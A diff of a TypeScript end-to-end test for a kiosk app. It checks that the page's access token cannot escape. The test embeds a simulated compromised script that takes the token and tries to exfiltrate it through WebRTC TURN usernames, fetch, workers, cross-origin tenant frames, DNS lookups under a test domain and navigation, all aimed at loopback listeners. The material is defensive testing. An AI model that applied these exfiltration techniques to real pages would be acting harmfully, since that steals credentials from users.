@@ -2,12 +2,12 @@
 // every channel it has to a listener on loopback and to host names a DNS logger sees — WebRTC (TURN with the
 // token as username over UDP and TCP, STUN/TURN host names) from the page, from same-origin frames however it
 // reaches them (window[i], contentWindow, contentDocument.defaultView, window.open to a named target, open,
-// closed and nested shadow roots), from srcdoc frames running a script of the (compromised) tenant, sandboxed
-// or not, and from a worker; fetch, beacon, image, form, iframe, websocket, worker, hints and navigation.
+// closed and nested shadow roots), from frames running a (compromised) tenant's script — a srcdoc frame, and a
+// tenant page, cross-origin — and from a worker; fetch, beacon, image, form, iframe, websocket, worker, hints and navigation.
 // Nothing that arrives may carry the token in any encoding, and no name under the test domain may be looked up.
 // Two guards hold it: main's egress gate (the network) and the main-world patch (page JavaScript). The test
-// runs with each removed as well, to show that it notices: the patch alone lets the srcdoc frames' TURN
-// usernames reach the listener; the gate alone leaves page scripts their WebRTC.
+// runs with each removed as well, to show that it notices: the patch alone lets the tenant frame's TURN
+// username reach the listener; the gate alone leaves page scripts their WebRTC.
 import { writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -21,8 +21,9 @@ import { embedsShowing, startHarness, type Harness } from './qiosk-harness';
 const DNS = '127.83.77.1'; // a loopback address nothing else uses (not resolved's 127.0.0.53)
 const DOMAIN = 'exfil.test';
 const root = process.getuid?.() === 0; // the DNS logger binds port 53 and Chromium runs in its own mount namespace
-/** A script the compromised tenant serves (an extension's file): a frame's own script, out of the patch's reach. */
+/** What a compromised tenant serves (routes answer for it): a script, and a page that runs it. */
 const FRAME_SCRIPT_PATH = '/extensions/compromised/frame.js';
+const FRAME_PAGE_PATH = '/extensions/compromised/frame.html';
 const FRAME_SCRIPT = `(async () => {
   const { token, turn, label } = JSON.parse(window.name);
   let outcome;
@@ -36,7 +37,7 @@ const FRAME_SCRIPT = `(async () => {
 })();`;
 
 /** Runs in the page's main world, as a compromised script would. Returns the token it took and what threw. */
-const ATTACK = `async ({ http, turn, domain, frameScript }) => {
+const ATTACK = `async ({ http, turn, domain, frameScript, framePage }) => {
   const token = await window.qioskGetAccessToken();
   const hex = [...new TextEncoder().encode(token)].slice(0, 24).map((b) => b.toString(16).padStart(2, '0')).join('');
   const q = 't=' + encodeURIComponent(token);
@@ -54,12 +55,13 @@ const ATTACK = `async ({ http, turn, domain, frameScript }) => {
   };
   const frame = (parent = document.body) => { const f = document.createElement('iframe'); parent.append(f); return f; };
   const shadow = (mode) => { const host = document.createElement('div'); document.body.append(host); return host.attachShadow({ mode }); };
-  // A srcdoc frame whose own script (from the tenant, which the CSP allows) does the WebRTC: reports back.
-  const srcdocFrame = (label, sandbox) => new Promise((resolve) => {
+  // A frame whose own script does the WebRTC, and reports back: a srcdoc frame running the tenant's script (the
+  // CSP allows it), or a tenant page (classic embeds are tenant frames), cross-origin to the kiosk page.
+  const scriptFrame = (label, srcdoc) => new Promise((resolve) => {
     const f = document.createElement('iframe');
     f.name = JSON.stringify({ token, turn, label });
-    if (sandbox) f.sandbox = 'allow-scripts';
-    f.srcdoc = '<script src="' + frameScript + '"></' + 'script>';
+    if (srcdoc) f.srcdoc = '<script src="' + frameScript + '"></' + 'script>';
+    else f.src = framePage;
     const done = (e) => { if (e.data && e.data.qioskExfilFrame === label) { removeEventListener('message', done); resolve(e.data.outcome); } };
     addEventListener('message', done);
     setTimeout(() => resolve('frame never reported'), 5000);
@@ -91,8 +93,8 @@ const ATTACK = `async ({ http, turn, domain, frameScript }) => {
   await attempt('webrtc via contentDocument.defaultView', () => rtc(frame(shadow('closed')).contentDocument.defaultView.RTCPeerConnection));
   await attempt('webrtc via window.open to a named target', () => { const f = document.createElement('iframe'); f.name = 'qiosk-exfil-target'; shadow('closed').append(f); return rtc(window.open('', 'qiosk-exfil-target').RTCPeerConnection); });
   // Beyond the patch's reach: a frame's own script, and a worker.
-  results['srcdoc frame'] = await srcdocFrame('srcdoc', false);
-  results['sandboxed srcdoc frame'] = await srcdocFrame('sandboxed', true);
+  results['srcdoc frame'] = await scriptFrame('srcdoc', true);
+  results['tenant frame'] = await scriptFrame('tenant', false);
   results['worker'] = await new Promise((resolve) => {
     const src = 'postMessage(typeof RTCPeerConnection); fetch(' + JSON.stringify('http://' + http + '/from-worker?' + q) + ').catch(() => {});';
     const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
@@ -126,10 +128,11 @@ describeWithKeyring('the token cannot leave the kiosk page', () => {
     const resolv = path.join(os.tmpdir(), `qiosk-exfil-resolv-${process.pid}.conf`);
     writeFileSync(resolv, `nameserver ${DNS}\noptions attempts:1 timeout:1\n`);
     const h: Harness = closing(await startHarness({ secret: makeCanary(), resolvConf: resolv, layers }));
-    // The compromised tenant serves the frames' script (a route answers it as the tenant would).
+    // The compromised tenant serves the frames' script and a page running it (routes answer as the tenant would).
     await h.context.route(`${h.tenant.baseUrl}${FRAME_SCRIPT_PATH}`, (r) => r.fulfill({ status: 200, contentType: 'text/javascript', body: FRAME_SCRIPT }));
+    await h.context.route(`${h.tenant.baseUrl}${FRAME_PAGE_PATH}`, (r) => r.fulfill({ status: 200, contentType: 'text/html', body: `<!doctype html><script>${FRAME_SCRIPT}</script>` }));
     await embedsShowing(h.page);
-    const args = { http: `127.0.0.1:${l.httpPort}`, turn: l.turnPort, domain: DOMAIN, frameScript: `${h.tenant.baseUrl}${FRAME_SCRIPT_PATH}` };
+    const args = { http: `127.0.0.1:${l.httpPort}`, turn: l.turnPort, domain: DOMAIN, frameScript: `${h.tenant.baseUrl}${FRAME_SCRIPT_PATH}`, framePage: `${h.tenant.baseUrl}${FRAME_PAGE_PATH}` };
     const { token, hex, results } = (await h.page.evaluate(`(${ATTACK})(${JSON.stringify(args)})`)) as { token: string; hex: string; results: Record<string, string> };
     expect(token.length).toBeGreaterThan(20); // the script really held a token
     // Last, navigation away (the page may be gone after it): by URL and by name.
@@ -155,14 +158,14 @@ describeWithKeyring('the token cannot leave the kiosk page', () => {
     expect(run.arrived, JSON.stringify(run.results)).toEqual([]);
     expect(run.looked).toEqual([]);
     expect(run.unpatched, JSON.stringify(run.results)).toEqual([]);
-    // The frame beyond the patch really tried (else the gate was not put to the test), and workers have no WebRTC.
-    // (The sandboxed frame's script request never leaves here: its opaque origin gets no Local Network Access to
-    // the loopback fake tenant. From a real tenant it runs, and meets the gate as the srcdoc frame does.)
-    expect(run.results['srcdoc frame']).toBe('frame ran: offer made');
+    // The tenant frame (cross-origin: no page script can reach its window) really tried, else the gate was not
+    // put to the test; workers have no WebRTC. (The same-origin srcdoc frame may run patched or not: Chromium
+    // keeps the window of its initial about:blank document, which the patch may have reached first.)
+    expect(run.results['tenant frame']).toBe('frame ran: offer made');
     expect(run.results['worker']).toBe('worker ran: RTCPeerConnection is undefined');
   });
 
-  it.skipIf(!root)('without the gate (patch kept), the srcdoc frames\' TURN usernames carry the token to the listener: the test notices', async () => {
+  it.skipIf(!root)('without the gate (patch kept), the tenant frame\'s TURN username carries the token to the listener: the test notices', async () => {
     const run = await attack({ gate: false });
     expect(run.unpatched).toEqual([]);
     expect(run.arrived.filter((r) => r.startsWith('TURN/')).length).toBeGreaterThan(0);
